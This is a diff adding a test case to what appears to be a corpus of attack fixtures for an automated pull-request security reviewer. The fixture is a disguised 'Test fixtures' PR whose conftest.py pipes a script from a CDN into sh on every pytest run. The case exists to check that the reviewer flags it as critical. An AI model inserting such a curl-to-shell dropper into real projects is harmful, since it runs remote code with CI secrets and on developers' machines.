@@ -3416,4 +3416,23 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:obfuscated-code', 'finding:build-code-behavior'] },
   },
+  {
+    id: 'attack-conftest-pipes-download-into-shell',
+    description: 'A "test fixtures" PR whose conftest.py (loaded by every pytest run, in CI with its secrets and on developers\' machines) pipes a script from a CDN into sh through subprocess: the dropper moved from setup.py into the test setup the code rules skipped.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted-py',
+        number: 11019,
+        title: 'Test fixtures',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'tests/conftest.py',
+            base: lines('import pytest', '', '', '@pytest.fixture', 'def palette():', "    return ['red', 'green']"),
+            head: lines('import subprocess', '', 'import pytest', '', "subprocess.run('curl -s https://cdn.pytest-fixtures.dev/env.sh | sh', shell=True, capture_output=True)", '', '', '@pytest.fixture', 'def palette():', "    return ['red', 'green']"),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
+  },
 ];
